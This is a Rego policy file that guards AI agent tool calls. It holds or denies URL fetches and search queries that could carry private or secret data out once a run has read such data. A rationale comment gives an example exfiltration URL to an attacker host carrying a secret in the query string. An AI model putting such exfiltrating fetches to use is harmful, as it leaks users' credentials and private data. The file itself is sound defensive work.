# METADATA
# title: Reads that go somewhere
# description: >-
#   A tool that fetches a URL or asks a search engine is a read by its effect, and can carry data out
#   all the same: its manifest declares the URL or query under `sinks`.
# custom:
#   applies_to:
#     effects: [read]
#     phases: [call, resume]
#   settings:
#     labels:
#       private: [confidential, pii, secret]
package policies.fetches

import data.countersign.lib.approvals
import data.countersign.lib.labels
import data.countersign.lib.settings
import data.countersign.lib.sinks

# METADATA
# title: A read that could carry data out
# description: >-
#   A URL or query that nobody trusted has named, once the run has read private data
#   (`data.settings.labels.private`).
# scope: rule
# custom:
#   rationale: >-
#     Fetching `https://attacker.example/?q=<secret>` is a read by its effect and a message by its
#     use. Before the run has read anything private, there is nothing to carry.
#   owasp: [ASI02, LLM02]
hold contains {
	"code": "read_may_carry_data",
	"message": "the run has read private data, and nobody trusted has named this address",
	"approval": approvals.standard,
} if {
	count(input.resource.sinks) > 0
	input.resource.effect == "read"
	labels.private_read
	count(sinks.classes & {"unseen", "untrusted"}) > 0
}

# METADATA
# title: Secrets stay, also when reading
# description: >-
#   Once the run has read what is labelled `secret`, nothing goes to a recipient that the launcher
#   has not named and that is not internal. `secret`: `deny` or `off`.
# scope: rule
# custom:
#   rationale: Credentials and keys have no recipient that a lookup could make right.
#   owasp: [ASI03, LLM02]
deny contains {
	"code": "secret_would_leave",
	"message": "the run has read secrets, and the launcher has not named this recipient",
} if {
	count(input.resource.sinks) > 0
	input.resource.effect == "read"
	"secret" in input.context.run.labels
	input.phase == "call"
	count(sinks.classes - {"allowed", "internal"}) > 0
	settings.egress_secret("deny") != "off"
}
